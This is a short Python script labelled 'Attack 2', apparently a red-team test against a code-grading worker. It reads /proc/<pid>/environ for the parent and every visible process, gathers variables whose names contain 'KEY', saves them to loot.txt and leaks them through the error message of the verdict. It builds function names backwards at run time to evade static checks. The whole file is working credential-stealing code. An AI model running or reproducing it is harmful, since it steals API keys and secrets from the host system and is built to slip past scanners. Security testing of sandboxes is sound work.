# Attack 2: read the API key from the environment of the process that started the worker (avo's is not scrubbed),
# and of every other process in sight; keep it in the candidate's folder and put it in the verdict's message. The
# paths and functions are named at run time, as an attacker would, so no static check reads them.
import io
import os


def _named(module, backwards):
    return getattr(module, "".join(reversed(backwards)))


_proc, _file = chr(47) + "proc", _named(io, "OIeliF")
_loot = []
for _pid in [os.getppid()] + [int(p) for p in _named(os, "ridtsil")(_proc) if p.isdigit()]:
    try:
        _loot.append(_file(_proc + chr(47) + str(_pid) + chr(47) + "environ").read().decode(errors="replace"))
    except OSError:
        pass
_keys = sorted({item for env in _loot for item in env.split(chr(0)) if "KEY" in item.partition("=")[0]})
_here = os.path.dirname(os.path.abspath(__file__))
_file(os.path.join(_here, "loot.txt"), "w").write("\n".join(_loot).encode())
raise RuntimeError(f"LOOT from {len(_loot)} environments: {' '.join(_keys)}")
